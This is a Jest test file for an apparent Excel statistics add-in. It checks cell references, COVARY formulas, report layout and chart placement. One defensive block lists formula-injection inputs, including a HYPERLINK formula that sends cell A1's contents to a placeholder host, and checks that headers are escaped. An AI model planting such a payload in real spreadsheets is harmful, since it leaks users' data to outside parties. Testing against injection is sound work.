/**
 * What the write buttons put in the sheet. References follow Microsoft's documented formula syntax: absolute A1
 * references ($B$2:$B$49), sheet names quoted when they hold spaces, structured references Table[Column] with
 * special characters in a column name escaped by a single quote ("Using structured references with Excel
 * tables").
 */
import { blocksIntersect, CellBlock, cellName, columnNumber, parseAddress } from '../../../src/sheet/a1';
import { Entry, isFormulaEntry, shownText } from '../../../src/sheet/entries';
import {
  allBlank, columnReference, completePairCount, escapeColumnName, formulaBlock, formulaPlaces, reportCharts, reportSheetCells, residualCells, ColumnRef,
  REPORT_CHART_PLACES, RESIDUAL_BLOCK,
} from '../../../taskpane/sheet-output';

const block = (a: string) => parseAddress(a)![0];
const rangeRef = (a: string): ColumnRef => ({ source: { kind: 'range', address: a }, block: block(a) });
const tableRef = (table: string, column: string, a: string): ColumnRef => ({ source: { kind: 'table', table, column }, block: block(a) });

describe('references', () => {
  test('ranges are absolute; the sheet is named only from another sheet, quoted when needed', () => {
    expect(columnReference(rangeRef('Staff!B2:B49'), 'Staff')).toBe('$B$2:$B$49');
    expect(columnReference(rangeRef('Staff!B2:B49'), 'Report')).toBe('Staff!$B$2:$B$49');
    expect(columnReference(rangeRef("'North branch'!B2:B49"), '')).toBe("'North branch'!$B$2:$B$49");
  });
  test('table columns become structured references that follow the table', () => {
    expect(columnReference(tableRef('Shops', 'Visits', 'S!B2:B9'), 'S')).toBe('Shops[Visits]');
    expect(columnReference(tableRef('Shops', 'Oven hours', 'S!B2:B9'), 'S')).toBe('Shops[[Oven hours]]');
    expect(columnReference(tableRef('Shops', 'Visits', 'S!B2:B9'), 'S', true)).toBe('$B$2:$B$9');
  });
  test("special characters in column names are escaped with '", () => {
    expect(escapeColumnName("Q1 [est.] #'s")).toBe("Q1 '[est.'] '#''s");
  });
});

describe('formula block', () => {
  const cells = formulaBlock(rangeRef('Staff!B2:B49'), rangeRef('Staff!C2:C49'), { x: 'Visits', y: 'Sales "net"' }, 'Staff', { method: 'spearman', level: 0.9, alpha: 0.05 });
  test('six labelled rows with the COVARY functions and their optional arguments in order', () => {
    expect(cells).toHaveLength(6);
    expect(cells[1][1]).toBe('=COVARY.COEF($B$2:$B$49, $C$2:$C$49, "spearman")');
    expect(cells[2][1]).toBe('=COVARY.INTERVAL($B$2:$B$49, $C$2:$C$49, 0.9, "spearman")');
    expect(cells[3][1]).toBe('=COVARY.PVALUE($B$2:$B$49, $C$2:$C$49, "both", "spearman")');
    expect(cells[4][1]).toBe('=COVARY.PAIRS($B$2:$B$49, $C$2:$C$49)');
    expect(cells[5][1]).toBe('=COVARY.FLAGS($B$2:$B$49, $C$2:$C$49, 0.05)');
    expect(shownText(cells[2][0])).toBe('90% interval (lower, upper)');
  });
  test('header text is written as plain cell text (never a formula)', () => {
    expect(isFormulaEntry(cells[0][0])).toBe(false);
    expect(shownText(cells[0][0])).toBe('Covary: Sales "net" against Visits');
  });
  test('places start two columns right of the data, at the header row, moving right', () => {
    const places = formulaPlaces([block('Staff!B2:B49'), block('Staff!C2:C49')], 3);
    expect(places.map((p) => [p.firstColumn, p.firstRow, p.lastColumn, p.lastRow])).toEqual([[5, 1, 7, 6], [9, 1, 11, 6], [13, 1, 15, 6]]);
  });
  test('blank detection', () => {
    expect(allBlank([['', null], [undefined, '']])).toBe(true);
    expect(allBlank([['', 0]])).toBe(false);
  });
});

describe('report sheet', () => {
  test('REPORT, CHECKS, SENSITIVITY and RESIDUALS formulas with sheet-qualified references, rectangular', () => {
    const rows = reportSheetCells(rangeRef("'North branch'!B2:B49"), rangeRef("'North branch'!C2:C49"), { x: 'Visits', y: 'Sales' }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(Date.UTC(2024, 4, 1, 9, 30)));
    expect(new Set(rows.map((r) => r.length)).size).toBe(1);
    const formulas = rows.flat().filter(isFormulaEntry);
    expect(formulas).toEqual([
      // In reading order: RESIDUALS sits in row 2 (column W), the tables from row 11.
      "=COVARY.RESIDUALS('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49)",
      "=COVARY.REPORT('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.95, \"pearson\", \"\", $B$2, $B$3)",
      "=COVARY.CHECKS('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.05)",
      "=COVARY.SENSITIVITY('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.95, \"pearson\")",
    ]);
    expect(shownText(rows[3][1])).toBe('2024-05-01 09:30 UTC');
    // The names REPORT's reading uses sit alone in B2 and B3.
    expect([shownText(rows[1][1]), shownText(rows[2][1])]).toEqual(['Visits', 'Sales']);
    expect(shownText(rows[1][2])).toBe("'North branch'!B2:B49");
  });
  test('SENSITIVITY sits below the eight checks, clear of the CHECKS spill', () => {
    const rows = reportSheetCells(rangeRef('S!B2:B49'), rangeRef('S!C2:C49'), { x: 'Visits', y: 'Sales' }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(0));
    const checksRow = rows.findIndex((r) => String(r[3]).startsWith('=COVARY.CHECKS'));
    const sensitivityRow = rows.findIndex((r) => String(r[3]).startsWith('=COVARY.SENSITIVITY'));
    expect(sensitivityRow - checksRow).toBeGreaterThan(9); // CHECKS spills a header and eight rows
    for (let i = checksRow + 1; i < checksRow + 9; i++) expect(rows[i][3]).toBe('');
  });
});

describe('report sheet: the residual block and the three charts', () => {
  const x = rangeRef('North!B2:B49');
  const y = rangeRef('North!C2:C49');
  const rows = reportSheetCells(x, y, { x: 'Oven hours', y: 'Loaves sold' }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(0));
  /** The non-blank entries of the report, as [A1 cell, entry]. */
  const filled = rows.flatMap((r, i) => r.map((e, j) => ({ row: i + 1, column: j + 1, e }))).filter((c) => c.e !== '');
  const cellAt = (a1: string) => {
    const b = block(a1);
    return rows[b.firstRow - 1]?.[b.firstColumn - 1];
  };

  test('headers in W1:Y1 and the RESIDUALS formula in W2, as entered text and a formula', () => {
    expect([RESIDUAL_BLOCK.firstColumn, RESIDUAL_BLOCK.headerRow, RESIDUAL_BLOCK.formulaRow]).toEqual([columnNumber('W'), 1, 2]);
    expect(['W1', 'X1', 'Y1'].map((a) => cellAt(a))).toEqual(["'Sheet row", "'Fitted value", "'Residual"]);
    expect(cellAt('W2')).toBe('=COVARY.RESIDUALS(North!$B$2:$B$49, North!$C$2:$C$49)');
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([columnNumber('Y')]));
  });

  test('nothing else is written in columns L to Y, where the charts and the residual spill go', () => {
    const right = filled.filter((c) => c.column >= columnNumber('L'));
    expect(right.map((c) => cellName(c.row, c.column))).toEqual(['W1', 'X1', 'Y1', 'W2']);
  });

  test('chart cells cover exactly the spill rows: W2:W(n+1), X2:X(n+1), Y2:Y(n+1) on the report sheet', () => {
    expect(residualCells('Covary report (2)', 45)).toEqual({
      rows: "'Covary report (2)'!W2:W46", fitted: "'Covary report (2)'!X2:X46", residuals: "'Covary report (2)'!Y2:Y46",
    });
  });

  test('complete pairs: rows where both cells hold numbers (NaN marks the others)', () => {
    expect(completePairCount(Float64Array.of(1, NaN, 3, 4, 5), Float64Array.of(2, 2, NaN, 4, 6))).toBe(3);
  });

  test('three charts: the data scatter with its line, then residuals against fitted values and in row order', () => {
    const specs = reportCharts('Covary report', x, y, { x: 'Oven hours', y: 'Loaves sold' }, 45);
    expect(specs.map((c) => [c.x, c.y, c.trendline, c.at, c.to])).toEqual([
      ['North!B2:B49', 'North!C2:C49', true, 'M2', 'T17'],
      ["'Covary report'!X2:X46", "'Covary report'!Y2:Y46", false, 'M19', 'T34'],
      ["'Covary report'!W2:W46", "'Covary report'!Y2:Y46", false, 'M36', 'T51'],
    ]);
    expect(specs.map((c) => [c.title, c.xTitle, c.yTitle])).toEqual([
      ['Loaves sold against Oven hours', 'Oven hours', 'Loaves sold'],
      ['Residuals of Loaves sold against the fitted values', 'Fitted Loaves sold', 'Residual'],
      ['Residuals of Loaves sold in row order', 'Sheet row (North)', 'Residual'],
    ]);
  });

  test('with fewer than 3 pairs (RESIDUALS answers #N/A) only the data scatter is made', () => {
    expect(reportCharts('R', x, y, { x: 'a', y: 'b' }, 2).map((c) => c.title)).toEqual(['b against a']);
  });

  test('the charts overlap neither each other, nor the tables (A-K), nor the residual block (W-Y)', () => {
    const place = (p: { at: string; to: string }): CellBlock => {
      const a = block(p.at);
      const b = block(p.to);
      return { sheet: '', firstRow: a.firstRow, lastRow: b.lastRow, firstColumn: a.firstColumn, lastColumn: b.lastColumn };
    };
    const places = REPORT_CHART_PLACES.map(place);
    const tables: CellBlock = { sheet: '', firstRow: 1, lastRow: 1048576, firstColumn: 1, lastColumn: columnNumber('K') };
    const residuals: CellBlock = { sheet: '', firstRow: 1, lastRow: 1048576, firstColumn: columnNumber('W'), lastColumn: columnNumber('Y') };
    const clashes: string[] = [];
    places.forEach((p, i) => {
      places.forEach((q, j) => {
        if (i < j && blocksIntersect(p, q)) clashes.push(`chart ${i} and chart ${j}`);
      });
      if (blocksIntersect(p, tables)) clashes.push(`chart ${i} and the tables`);
      if (blocksIntersect(p, residuals)) clashes.push(`chart ${i} and the residual block`);
    });
    expect(clashes).toEqual([]);
  });
});

/**
 * Formula injection: a header is the sheet's text and must come back as the same text, never as a formula, a
 * number or a function call, whatever it begins with (the characters spreadsheets treat as the start of a
 * formula: = + - @, and the tab / carriage return that some hosts strip before them).
 */
describe('headers are never formulas', () => {
  const hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', "'=quoted", '1-2'];
  const everyEntry = (x: string, y: string): Entry[] => [
    ...formulaBlock(rangeRef('S!B2:B9'), rangeRef('S!C2:C9'), { x, y }, 'S', { method: 'pearson', level: 0.95, alpha: 0.05 }).flat(),
    ...reportSheetCells(rangeRef('S!B2:B9'), rangeRef('S!C2:C9'), { x, y }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(0)).flat(),
  ];
  test.each(hostile)('%s', (h) => {
    const entries = everyEntry(h, h);
    for (const e of entries.filter(isFormulaEntry)) expect(String(e)).toMatch(/^=COVARY\.[A-Z_]+\(S!\$B\$2:\$B\$9, S!\$C\$2:\$C\$9|^=COVARY\.[A-Z_]+\(\$B\$2:\$B\$9, \$C\$2:\$C\$9/);
    const texts = entries.filter((e) => !isFormulaEntry(e) && e !== '');
    for (const e of texts) expect(String(e)).toMatch(/^'/);
    expect(texts.map(shownText).join('\n')).toContain(h);
  });
});

describe('report sheet with the comparison on screen', () => {
  const opts = { method: 'spearman' as const, level: 0.9, alpha: 0.05 };
  const cells = (design: 'independent' | 'shared' | 'separate', common?: { a: 0 | 1; b: 0 | 1 }) =>
    reportSheetCells(rangeRef('N!B2:B49'), rangeRef('N!C2:C49'), { x: 'Mechanics', y: 'Repairs' }, opts, new Date(0), {
      x: rangeRef(design === 'independent' ? 'S!B2:B41' : 'N!D2:D49'),
      y: rangeRef(design === 'shared' ? 'N!C2:C49' : design === 'independent' ? 'S!C2:C41' : 'N!E2:E49'),
      names: { x: 'Other', y: 'Repairs' },
      design,
      common,
    });
  const diff = (rows: Entry[][]) => rows.flat().filter(isFormulaEntry).find((f) => String(f).startsWith('=COVARY.DIFF_'));

  test('each design writes its own comparison formula, below the REPORT spill, with the options in force', () => {
    expect(diff(cells('independent'))).toBe('=COVARY.DIFF_GROUPS(N!$B$2:$B$49, N!$C$2:$C$49, S!$B$2:$B$41, S!$C$2:$C$41, 0.9, "both", "spearman")');
    // Shared: the common column first (C in both pairs), then pair A's other column, then pair B's.
    expect(diff(cells('shared', { a: 1, b: 1 }))).toBe('=COVARY.DIFF_SHARED(N!$C$2:$C$49, N!$B$2:$B$49, N!$D$2:$D$49, 0.9, "both", "spearman")');
    expect(diff(cells('separate'))).toBe('=COVARY.DIFF_SEPARATE(N!$B$2:$B$49, N!$C$2:$C$49, N!$D$2:$D$49, N!$E$2:$E$49, 0.9, "both", "spearman")');
    const rows = cells('independent');
    const at = rows.findIndex((r) => String(r[0]).startsWith('=COVARY.DIFF_'));
    expect(at).toBeGreaterThanOrEqual(36);
    expect(new Set(rows.map((r) => r.length)).size).toBe(1);
  });

  test('without a comparison the report ends with its SENSITIVITY table', () => {
    const rows = reportSheetCells(rangeRef('N!B2:B49'), rangeRef('N!C2:C49'), { x: 'M', y: 'R' }, opts, new Date(0));
    expect(diff(rows)).toBeUndefined();
  });
});
